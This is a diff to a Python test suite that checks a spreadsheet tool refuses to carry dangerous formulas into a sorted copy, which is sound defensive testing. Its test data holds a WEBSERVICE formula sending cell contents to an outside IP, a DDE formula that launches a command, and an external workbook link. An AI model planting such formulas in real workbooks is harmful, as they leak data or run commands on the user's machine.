@@ -234,19 +234,27 @@ for index, value in enumerate(LIVE):
 add("formula/totals-row-label", "formula", formula_as_text("add_totals_row", LIVE[0]))
 
 
-async def sorted_copy(ctx: Context) -> Verdict:
-    from openpyxl import Workbook
+def sorted_copy(formula: str, word: str) -> Callable[[Context], Awaitable[Verdict]]:
+    """A workbook already holding a formula that reaches out: sort_rows does not carry it into a copy."""
 
-    book = Workbook()
-    book.active.title = "Data"
-    for row in (["Item", "Amount"], ["b", 2], ["a", '=WEBSERVICE("http://198.51.100.7/?"&A2)']):
-        book.active.append(row)
-    book.save(ctx.root / "budget.xlsx")
-    return await refused("spreadsheets", "sort_rows", {"path": "budget.xlsx", "by": "Item", "target_sheet": "S"},
-                         words=("WEBSERVICE",))(ctx)
+    async def attack(ctx: Context) -> Verdict:
+        from openpyxl import Workbook
+
+        book = Workbook()
+        book.active.title = "Data"
+        for row in (["Item", "Amount"], ["b", 2], ["a", formula]):
+            book.active.append(row)
+        book.save(ctx.root / "budget.xlsx")
+        return await refused("spreadsheets", "sort_rows", {"path": "budget.xlsx", "by": "Item",
+                                                           "target_sheet": "S"}, words=(word,))(ctx)
+
+    return attack
 
 
-add("formula/sorted-copy-of-a-live-formula", "formula", sorted_copy)
+add("formula/sorted-copy-of-a-live-formula", "formula",
+    sorted_copy('=WEBSERVICE("http://198.51.100.7/?"&A2)', "WEBSERVICE"))
+add("formula/sorted-copy-of-a-dde-link", "formula", sorted_copy("=cmd|'/c calc'!A1", "DDE"))
+add("formula/sorted-copy-of-an-external-link", "formula", sorted_copy("=[1]Sheet1!A1", "another workbook"))
 
 
 # -- paths that are not files: FIFOs, devices, sockets -------------------------------------------------
